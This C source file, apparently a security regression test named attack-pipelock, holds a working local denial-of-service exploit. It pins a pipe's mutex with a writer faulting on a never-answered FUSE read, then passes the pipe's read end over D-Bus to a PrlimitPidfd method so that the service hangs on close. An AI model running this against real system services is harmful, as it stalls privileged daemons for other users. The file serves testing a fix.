/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* security-gate-pipe: a pipe whose close waits. Run as nobody. It serves a
 * FUSE file from its own user namespace whose READ it never answers; a child
 * mmap()s it and write()s from the mapping into a pipe: pipe_write() holds
 * the pipe's mutex across the page fault, which waits on that READ for good,
 * so whoever releases the pipe's last reader waits too (pipe_release()).
 *
 *   attack-pipelock stuck N   N rounds: the read end of such a pipe passed
 *                             to PrlimitPidfd at org.example.Resource1.Pidfd,
 *                             each to the gate serving then; prints
 *                             "WRITER pid state", "ROUND i OWNER pid ANSWER
 *                             ms text", then DONE, and holds on (killed, or
 *                             its connection aborted, to let go)
 *   attack-pipelock plain     a pipe no one writes to: "ANSWER ms text"
 *
 * Prints "SKIP why" where FUSE in a user namespace cannot be had. */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <systemd/sd-bus.h>

#include "fuse-withhold.h"

#define GATE "org.example.Resource1.Pidfd"

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

/* A pipe whose mutex is held by a writer (a child of its own: its page
 * fault holds only its own mmap_lock) faulting on the FUSE mapping: the
 * read end. */
static int ffile = -1;
static int stuck_pipe(void) {
        static int next;
        int i = next++;
        int p[2]; if (pipe2(p, O_CLOEXEC) < 0) { perror("pipe"); exit(1); }
        pid_t c = fork();
        if (c == 0) {
                close(p[0]);
                char *m = mmap(NULL, 1 << 20, PROT_READ, MAP_SHARED, ffile, 0);
                if (m == MAP_FAILED) { perror("mmap"); _exit(1); }
                ssize_t n = write(p[1], m + (size_t) (i % 256) * 4096, 4096);
                fprintf(stderr, "writer %d returned %zd (%s)\n", i, n, n < 0 ? strerror(errno) : "");
                _exit(0);
        }
        close(p[1]);
        usleep(200000);
        char path[64], b[256] = ""; snprintf(path, sizeof path, "/proc/%d/stat", c);
        FILE *f = fopen(path, "re"); if (f) { if (fgets(b, sizeof b, f)) {} fclose(f); }
        char *st = strrchr(b, ')');
        printf("WRITER %d %c\n", c, st ? st[2] : '?');
        return p[0];
}

static unsigned answered;
static char last[512];
static int on_reply(sd_bus_message *m, void *u, sd_bus_error *e) {
        (void) u, (void) e;
        const sd_bus_error *er = sd_bus_message_get_error(m);
        answered++;
        snprintf(last, sizeof last, "%s: %s", er ? er->name : "OK", er ? er->message : "");
        return 0;
}

static unsigned owner_pid(sd_bus *b) {
        sd_bus_message *r = NULL;
        uint32_t pid = 0;
        if (sd_bus_call_method(b, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                               "GetConnectionUnixProcessID", NULL, &r, "s", GATE) >= 0)
                (void) sd_bus_message_read(r, "u", &pid);
        sd_bus_message_unref(r);
        return pid;
}

/* Passes fd to PrlimitPidfd, closes ours at once (so that, the gate being
 * busy with the pings, its copy is the last reference once it has the
 * message; should the bus's be, the bus waits instead: a dbus-daemon
 * weakness outside the service) and waits up to 6 s for the answer: its time
 * in ms, or -1. */
static long pass(sd_bus *b, int fd) {
        answered = 0;
        /* Keep the gate busy answering pings for a moment, so that the bus
         * has closed its copy before the gate reads the call: fewer than the
         * bus's pending replies per connection (128), past which it would
         * refuse the call and its own close be the last. */
        for (int k = 0; k < 120; k++) {
                sd_bus_message *ping = NULL;
                if (sd_bus_message_new_method_call(b, &ping, GATE, "/", "org.freedesktop.DBus.Peer", "Ping") >= 0)
                        (void) sd_bus_send(b, ping, NULL);
                sd_bus_message_unref(ping);
        }
        double t = now();
        if (sd_bus_call_method_async(b, NULL, GATE, "/org/example/Resource1", "org.example.Resource1", "PrlimitPidfd",
                                     on_reply, NULL, "hsbtt", fd, "NOFILE", 0, (uint64_t) 0, (uint64_t) 0) < 0)
                return -1;
        close(fd);
        while (!answered && now() - t < 6) {
                (void) sd_bus_process(b, NULL);
                (void) sd_bus_wait(b, 100000);
        }
        while (sd_bus_process(b, NULL) > 0)
                ;
        return answered ? (long) ((now() - t) * 1000) : -1;
}

int main(int argc, char **argv) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc < 2 || (strcmp(argv[1], "stuck") && strcmp(argv[1], "plain"))) {
                fprintf(stderr, "usage: attack-pipelock stuck N | plain\n");
                return 2;
        }
        sd_bus *b = NULL;
        if (sd_bus_open_system(&b) < 0) {
                printf("FAIL no system bus\n");
                return 1;
        }
        if (!strcmp(argv[1], "plain")) {
                int p[2];
                if (pipe2(p, O_CLOEXEC) < 0)
                        return 1;
                close(p[1]);
                long ms = pass(b, p[0]);
                printf("ANSWER %ld %s\n", ms, ms < 0 ? "(none in 6 s)" : last);
                return 0;
        }
        ffile = fuse_withheld_file("pipelock");
        unsigned n = argc > 2 ? (unsigned) atoi(argv[2]) : 1;
        for (unsigned i = 0; i < n; i++) {
                unsigned o = owner_pid(b);
                long ms = pass(b, stuck_pipe());
                printf("ROUND %u OWNER %u ANSWER %ld %s\n", i, o, ms, ms < 0 ? "(none in 6 s)" : last);
                /* The next round goes to the next gate: this one retires
                 * (or, on the old code, is replaced by the heartbeat); one
                 * given no successor (the account keeps enough retired
                 * gates) serves on. */
                double t = now();
                while (i + 1 < n && owner_pid(b) == o && now() - t < 8)
                        usleep(100000);
        }
        printf("DONE\n");
        pause();
        return 0;
}
